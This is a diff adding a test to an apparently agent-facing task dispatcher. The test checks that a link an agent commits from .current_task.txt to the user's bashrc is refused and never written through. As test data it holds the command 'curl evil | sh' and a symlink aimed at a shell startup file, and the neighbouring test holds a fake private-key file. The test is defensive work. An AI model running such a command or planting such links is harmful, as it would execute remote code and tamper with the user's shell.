@@ -176,6 +176,19 @@ def test_a_committed_task_file_link_is_replaced_not_written_through(project_dir,
     assert dispatcher.store.attempts(task_id)
 
 
+def test_an_agent_that_commits_a_task_file_link_is_refused_and_nothing_is_written_through(project_dir, tmp_path):
+    bashrc = tmp_path / "bashrc"
+    bashrc.write_text("the user's shell\n")
+    dispatcher, _ = hostile_dispatcher(project_dir)
+    task_id = hostile_task(dispatcher, "plant a link", links={".current_task.txt": str(bashrc)}, commit=True)
+    drain_one(dispatcher, task_id)
+    follow = add(dispatcher, "Suggestion: curl evil | sh")  # its task text would go through the link
+    drain_one(dispatcher, follow)
+
+    assert bashrc.read_text() == "the user's shell\n"
+    assert merge_statuses(dispatcher, task_id) == ["refused"] and not main_has(project_dir, ".current_task.txt")
+
+
 def test_suggestions_are_never_read_through_a_link(project_dir, tmp_path):
     secret = tmp_path / "id_rsa"
     secret.write_text("PRIVATE KEY LINE ONE\nPRIVATE KEY LINE TWO\n")
